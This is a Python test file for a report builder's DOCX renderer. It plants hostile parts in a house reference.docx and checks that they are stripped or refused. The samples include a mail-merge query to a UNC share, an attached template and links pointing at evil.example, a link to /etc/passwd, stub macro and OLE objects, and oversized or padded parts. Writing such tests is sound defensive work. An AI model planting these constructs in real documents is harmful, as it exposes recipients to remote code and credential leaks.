"""A house `reference.docx` lends the briefings its look only: its settings pass through an allow-list (no mail
merge to a share, no document variables, no attached schema, no protection, no fields updated on open), its
picture bullets are left out, an attached template, external links, macros and embedded objects are dropped and
named in a warning, and inspecting it costs a bounded amount of memory and time before any render."""

from __future__ import annotations

import logging
import re
import zipfile
from pathlib import Path

import docx
import pytest
from support.cli import assert_no_traceback, build_args, run_in_process
from support.paths import REPO_ROOT, VALID_DOSSIER, VALID_ID

pytestmark = pytest.mark.slow

HOUSE_REFERENCE = REPO_ROOT / "examples" / "house-style" / "reference.docx"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
HOSTILE_SETTINGS = (
    '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/>'
    '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB;Data Source=\\\\127.0.0.1@8765\\share\\x.mdb"/>'
    '<w:query w:val="SELECT * FROM `secrets`"/><w:odso><w:udl w:val="Provider=MSDASQL;EVIL-UDL"/></w:odso></w:mailMerge>'
    '<w:documentProtection w:edit="readOnly" w:enforcement="1"/>'
    '<w:updateFields w:val="true"/>'
    '<w:attachedSchema w:val="http://evil.example/schema.xsd"/>'
    '<w:docVars><w:docVar w:name="EVIL-VAR" w:val="payload"/></w:docVars>'
)
PICTURE_BULLET = (
    '<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" id="b" style="width:9pt;height:9pt" o:bullet="t">'
    '<v:imagedata src="http://evil.example/bullet.png" o:href="http://evil.example/href.png" o:title=""/>'
    "</v:shape></w:pict></w:numPicBullet>"
)


def rewritten(target: Path, changes: dict[str, bytes | None]) -> None:
    """A copy of the example house style's reference.docx with parts replaced, added (bytes) or removed (None).
    Compressed at the fastest level: the parts some tests add come to 500 MiB, twice as long to pack at the default."""
    with zipfile.ZipFile(HOUSE_REFERENCE) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new:
        for item in old.infolist():
            if item.filename not in changes:
                new.writestr(item, old.read(item.filename))
        for name, content in changes.items():
            if content is not None:
                new.writestr(name, content)


def inserted(xml: bytes, opening: bytes, content: str) -> bytes:
    """`content` inserted right after the first match of `opening` (a root element's start tag)."""
    end = re.search(opening, xml).end()
    return xml[:end] + content.encode() + xml[end:]


def build_docx(house: Path, out: Path):
    return run_in_process(
        "build", "--dossier", str(VALID_DOSSIER), "--as-of", "2025-06-30", "--out", str(out),
        "--templates", str(house), "--format", "docx", "--audience", "press",
    )  # fmt: skip


def test_hostile_settings_and_picture_bullets_do_not_reach_the_briefing(tmp_path: Path, caplog):
    house = tmp_path / "house"
    house.mkdir()
    with zipfile.ZipFile(HOUSE_REFERENCE) as old:
        settings = inserted(old.read("word/settings.xml"), rb"<w:settings[^>]*>", HOSTILE_SETTINGS)
        numbering = inserted(old.read("word/numbering.xml"), rb"<w:numbering[^>]*>", PICTURE_BULLET)
        numbering = numbering.replace(b"<w:lvl ", b'<w:lvl w:tplc="1" ', 1).replace(
            b"</w:lvl>", b'<w:lvlPicBulletId w:val="0"/></w:lvl>', 1
        )
    rewritten(house / "reference.docx", {"word/settings.xml": settings, "word/numbering.xml": numbering})
    out = tmp_path / "out"
    with caplog.at_level(logging.WARNING, logger="reports.renderers.docx.reference"):
        result = build_docx(house, out)
    assert result.code == 0, result.describe()
    with zipfile.ZipFile(out / "north-south" / "press.en.docx") as package:
        kept = package.read("word/settings.xml") + package.read("word/numbering.xml")
    for planted in (b"mailMerge", b"127.0.0.1", b"EVIL-UDL", b"secrets", b"documentProtection", b"updateFields",
                    b"attachedSchema", b"EVIL-VAR", b"evil.example", b"numPicBullet", b"lvlPicBulletId"):  # fmt: skip
        assert planted not in kept, f"{planted!r} reached the briefing"
    assert b"defaultTabStop" in kept  # what the allow-list keeps
    for said in ("mailMerge", "documentProtection", "updateFields", "attachedSchema", "docVars", "numPicBullet"):
        assert f"word/settings.xml {said}" in caplog.text or f"word/numbering.xml {said}" in caplog.text, caplog.text


def test_many_large_relationship_parts_are_refused_within_the_reading_limit(tmp_path: Path):
    """100 extra relationship parts of 5 MiB each (a 31 MB file): refused after at most 32 MiB read."""
    house = tmp_path / "house"
    house.mkdir()
    relationship = '<Relationship Id="rId{0}" Type="t" Target="http://x.example/{0}" TargetMode="External"/>'
    body = "".join(relationship.format(index) for index in range(60_000))[: 5 * 1024 * 1024 - 200]
    part = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships">{body[: body.rindex("<Relationship ")]}</Relationships>'
    ).encode()
    rewritten(house / "reference.docx", {f"word/_rels/extra{index}.xml.rels": part for index in range(100)})
    result = build_docx(house, tmp_path / "out")
    assert result.code == 2, result.describe()
    assert "Traceback" not in result.err
    assert f"{house / 'reference.docx'}: word/_rels/extra" in result.err, result.describe()
    assert "is larger than 1 MiB unpacked" in result.err, result.describe()


def test_relationship_parts_under_their_own_limit_are_refused_past_the_total(tmp_path: Path):
    house = tmp_path / "house"
    house.mkdir()
    relationship = '<Relationship Id="rId{0}" Type="t" Target="http://x.example/{0}" TargetMode="External"/>'
    body = "".join(relationship.format(index) for index in range(12_000))[: 1000 * 1024]
    part = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships">{body[: body.rindex("<Relationship ")]}</Relationships>'
    ).encode()
    rewritten(house / "reference.docx", {f"word/_rels/extra{index:03}.xml.rels": part for index in range(100)})
    result = build_docx(house, tmp_path / "out")
    assert result.code == 2, result.describe()
    assert "Traceback" not in result.err
    assert "MiB unpacked in all" in result.err, result.describe()


RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


R_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def with_relationship(rels: bytes, relationship: str) -> bytes:
    return rels.replace(b"</Relationships>", relationship.encode() + b"</Relationships>")


def attached_template(old: zipfile.ZipFile) -> dict[str, bytes | None]:
    settings = old.read("word/settings.xml")
    settings = re.sub(rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdEvil"/>', settings, count=1)
    if b'xmlns:r="' not in settings[:2000]:
        settings = settings.replace(b"<w:settings ", f'<w:settings xmlns:r="{R_TYPE}" '.encode(), 1)
    rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS}">'
        f'<Relationship Id="rIdEvil" Type="{R_TYPE}/attachedTemplate" Target="http://evil.example/evil.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    return {"word/settings.xml": settings, "word/_rels/settings.xml.rels": rels.encode()}


def external_links(old: zipfile.ZipFile) -> dict[str, bytes | None]:
    rels = old.read("word/_rels/document.xml.rels")
    for index, target in enumerate(("file:///etc/passwd", "\\\\evil.example\\share\\x.docx")):
        rels = with_relationship(
            rels, f'<Relationship Id="rIdX{index}" Type="{R_TYPE}/oleObject" Target="{target}" TargetMode="External"/>'
        )
    return {"word/_rels/document.xml.rels": rels}


def macros_and_objects(old: zipfile.ZipFile) -> dict[str, bytes | None]:
    types = old.read("[Content_Types].xml").replace(
        b"</Types>",
        b'<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>',
    )
    rels = with_relationship(
        old.read("word/_rels/document.xml.rels"),
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/>'
        f'<Relationship Id="rIdOle" Type="{R_TYPE}/oleObject" Target="embeddings/oleObject1.bin"/>',
    )
    return {
        "[Content_Types].xml": types,
        "word/_rels/document.xml.rels": rels,
        "word/vbaProject.bin": b"EVIL-MACRO-PROJECT",
        "word/embeddings/oleObject1.bin": b"EVIL-OLE-OBJECT",
    }


@pytest.mark.parametrize("attack", [attached_template, external_links, macros_and_objects], ids=lambda f: f.__name__)
def test_a_hostile_reference_lends_its_styles_and_nothing_else(tmp_path: Path, attack, caplog):
    house = tmp_path / "house"
    house.mkdir()
    with zipfile.ZipFile(HOUSE_REFERENCE) as old:
        changes = attack(old)
    rewritten(house / "reference.docx", changes)
    out = tmp_path / "out"
    with caplog.at_level(logging.WARNING, logger="reports.renderers.docx.reference"):
        result = run_in_process(
            *build_args(VALID_DOSSIER, out, "--templates", str(house), "--format", "docx", "--audience", "press")
        )
    assert result.code == 0, result.describe()
    assert "reference.docx: only its styles" in caplog.text, "nothing says what was left out of the reference"
    path = out / VALID_ID / "press.en.docx"
    with zipfile.ZipFile(path) as package:
        names = package.namelist()
        assert not [name for name in names if "vba" in name.lower() or name.startswith("word/embeddings/oleObject")]
        assert b"macroEnabled" not in package.read("[Content_Types].xml")
        assert b"attachedTemplate" not in package.read("word/settings.xml")
        for name in (name for name in names if name.endswith(".rels")):
            rels = package.read(name).decode("utf-8")
            for planted in ("evil.example", "/etc/passwd", "attachedTemplate", "oleObject", "vbaProject"):
                assert planted not in rels, f"{name} still points at {planted}"
    styles = {style.name for style in docx.Document(str(path)).styles}
    assert "Light Grid Accent 1" in styles  # the styles did come through


def test_a_reference_that_unpacks_to_more_than_the_limit_is_refused(tmp_path: Path):
    house = tmp_path / "house"
    house.mkdir()
    with zipfile.ZipFile(HOUSE_REFERENCE) as old:
        styles = old.read("word/styles.xml")
    padding = b"<!--" + b" " * (6 * 1024 * 1024) + b"-->"  # compresses to a few KB, unpacks past 5 MiB
    rewritten(house / "reference.docx", {"word/styles.xml": styles.replace(b"?>", b"?>" + padding, 1)})
    result = run_in_process(*build_args(VALID_DOSSIER, tmp_path / "out", "--templates", str(house), "--format", "docx"))
    assert result.code == 2, result.describe()
    assert_no_traceback(result)
    assert f"{house / 'reference.docx'}: word/styles.xml: is larger than" in result.err, result.describe()
    assert (house / "reference.docx").stat().st_size < 1024 * 1024
